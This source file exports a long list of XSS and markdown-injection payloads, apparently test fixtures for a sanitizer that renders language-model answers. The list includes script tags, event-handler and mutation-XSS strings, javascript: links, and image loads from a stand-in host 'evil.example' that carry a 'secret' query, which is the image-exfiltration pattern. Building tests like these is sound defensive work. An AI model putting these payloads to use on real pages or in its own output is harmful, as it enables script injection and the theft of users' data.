/**
 * Attempts to have an answer execute or load something. The ideas are from OWASP's XSS Filter Evasion Cheat Sheet, the
 * HTML5 Security Cheatsheet, PortSwigger's XSS cheat sheet, the test fixtures of DOMPurify, the security issues of marked,
 * markdown-it, showdown and remarkable, the mutation XSS papers of Heiderich et al. and of Bentkowski, and reports on
 * data exfiltration through images in answers of language models.
 *
 * `HIT` stands for code that reports itself, `EVIL` for another host.
 */
const HIT = "window.hit=1";
const EVIL = "//evil.example/x";

export const ATTEMPTS = [
  // HTML as it is
  `<script>${HIT}</script>`, `<SCRIPT SRC=${EVIL}></SCRIPT>`, `<scr<script>ipt>${HIT}</scr</script>ipt>`, `<script\x20type="text/javascript">${HIT};</script>`,
  `<img src=x onerror=${HIT}>`, `<img src=x onerror="${HIT}"`, `<img/src=x/onerror=${HIT}>`, `<IMG """><SCRIPT>${HIT}</SCRIPT>">`, `<img src=${EVIL}>`,
  `<img src=x:x onerror=${HIT}//`, `<image src=x onerror=${HIT}>`, `<img srcset=${EVIL}>`, `<picture><source srcset=${EVIL}><img></picture>`,
  `<svg onload=${HIT}>`, `<svg><script>${HIT}</script></svg>`, `<svg/onload=${HIT}//`, `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${HIT}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=${HIT} /></svg>#x">`, `<svg><image href=${EVIL}></svg>`, `<svg><style>*{background:url(${EVIL})}</style></svg>`,
  `<body onload=${HIT}>`, `<iframe src="javascript:${HIT}"></iframe>`, `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`, `<iframe src=${EVIL}></iframe>`, `<object data=${EVIL}></object>`, `<embed src=${EVIL}>`, `<embed src="javascript:${HIT}">`,
  `<video src=${EVIL} onerror=${HIT} autoplay>`, `<video><source onerror="${HIT}"></video>`, `<audio src=x onerror=${HIT}>`, `<video poster=${EVIL}>`, `<track src=${EVIL}>`,
  `<input autofocus onfocus=${HIT}>`, `<input type=image src=${EVIL} onerror=${HIT}>`, `<select autofocus onfocus=${HIT}>`, `<textarea autofocus onfocus=${HIT}>`, `<button autofocus onfocus=${HIT}>x</button>`, `<details open ontoggle=${HIT}>`, `<marquee onstart=${HIT}>`,
  `<form action="javascript:${HIT}"><input type=submit></form>`, `<button form=x formaction="javascript:${HIT}">x</button>`, `<isindex action=javascript:${HIT} type=image>`, `<meta http-equiv=refresh content="0;url=javascript:${HIT}">`, `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<link rel=stylesheet href=${EVIL}>`, `<link rel=prefetch href=${EVIL}>`, `<link rel=dns-prefetch href=${EVIL}>`, `<base href=${EVIL}>`, `<style>@import '${EVIL}';</style>`, `<style>*{background:url(${EVIL})}</style>`, `<p style="background:url(${EVIL})">x</p>`, `<div style="animation:x" onanimationstart=${HIT}>`,
  `<table background=${EVIL}><td background=${EVIL}>`, `<bgsound src=${EVIL}>`, `<a href="javascript:${HIT}">x</a>`, `<a href=" &#14; javascript:${HIT}">x</a>`, `<a href="java&Tab;script:${HIT}">x</a>`, `<math><mtext><a href=javascript:${HIT}>x`, `<math href="javascript:${HIT}">x</math>`,
  `<a onmouseover=${HIT}>x</a>`, `<x onclick=${HIT} tabindex=0 autofocus onfocus=${HIT}>x`, `<xss contenteditable onbeforeinput=${HIT}>`, `<template><script>${HIT}</script></template>`, `<dialog open oncancel=${HIT}>`, `<portal src=${EVIL}>`, `<applet code=x archive=${EVIL}>`, `<frameset onload=${HIT}>`, `<keygen autofocus onfocus=${HIT}>`,
  // HTML that changes when it is read twice
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${HIT}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HIT}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${HIT}>">`, `<listing>&lt;img onerror="${HIT}" src=x&gt;</listing>`, `<xmp><p title="</xmp><img src=x onerror=${HIT}>">`, `<style><style/><img src=x onerror=${HIT}>`, `<!--><img src=x onerror=${HIT}>-->`, `<!-- --!><img src=x onerror=${HIT}> -->`, `<![CDATA[<img src=x onerror=${HIT}>]]>`, `<?xml-stylesheet href="javascript:${HIT}"?>`, `<title><img src=x onerror=${HIT}></title>`, `<textarea><script>${HIT}</script></textarea>`, `<plaintext><img src=x onerror=${HIT}>`,
  // Markdown
  `[x](javascript:${HIT})`, `[x](JaVaScRiPt:${HIT})`, `[x](  javascript:${HIT})`, `[x](javascript&colon;${HIT})`, `[x](java&#10;script:${HIT})`, `[x](&#106;avascript:${HIT})`, `[x](&#x6A&#x61;vascript:${HIT})`, `[x](javascript:${HIT}//https://ok.example)`, `[x](<javascript:${HIT}>)`, `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`, `[x](vbscript:msgbox)`, `[x](\x01javascript:${HIT})`, `[x](file:///etc/passwd)`, `[x](blob:null/x)`,
  `<javascript:${HIT}>`, `<data:text/html,x>`, `[x][1]\n\n[1]: javascript:${HIT}`, `![x](javascript:${HIT})`, `![x](https:${EVIL}?q=secret)`, `![x](data:image/svg+xml,<svg onload=${HIT}>)`, `![x][1]\n\n[1]: https:${EVIL}`, `[![x](https:${EVIL})](https:${EVIL})`, `![x](x "onerror=${HIT}")`, `![x"onerror="${HIT}](x)`, `[x](https://a.b "title" onclick=${HIT})`, `[x](https://a.b"onclick="${HIT})`, `[x](https://a.b'onmouseover='${HIT})`, `[a](https://x.y/"><img src=x onerror=${HIT}>)`,
  `https://a.b/"onmouseover="${HIT}`, `<https://a.b/"><script>${HIT}</script>>`, `www.a.b/<img src=x onerror=${HIT}>`, `a@b.c"><img src=x onerror=${HIT}>`, `[<img src=x onerror=${HIT}>](https://a.b)`, `**<img src=x onerror=${HIT}>**`, `\`<img src=x onerror=${HIT}>`, `\`\`\`html\n<img src=x onerror=${HIT}>\n\`\`\``, `\`\`\`"><script>${HIT}</script>\nx\n\`\`\``, `\`\`\`js onload=${HIT}\nx\n\`\`\``, `~~~ <svg/onload=${HIT}>\n~~~`, `    <script>${HIT}</script>`,
  `| <img src=x onerror=${HIT}> | b |\n|---|---|\n| <script>${HIT}</script> | [x](javascript:${HIT}) |`, `- <img src=x onerror=${HIT}>\n- [x](javascript:${HIT})`, `> <script>${HIT}</script>`, `# <img src=x onerror=${HIT}>`, `&lt;script&gt;${HIT}&lt;/script&gt;`, `&#60;img src=x onerror=${HIT}&#62;`, `\\<img src=x onerror=${HIT}>`, `<br onclick=${HIT}>`, `<br/onfocus=${HIT} autofocus tabindex=1>`, `[^1]: <img src=x onerror=${HIT}>`, `- [x] <img src=x onerror=${HIT}>`,
  // Names that mean something elsewhere
  `\`\`\`__proto__\nx\n\`\`\``, `\`\`\`constructor\nx\n\`\`\``, `<a id=location name=document href=x>`, `<form id=x><input name=attributes></form>`, `<img name=getElementById src=x>`, `[__proto__]: https://a.b\n\n[__proto__] [constructor]`, `&__proto__; &constructor; &toString;`,
];
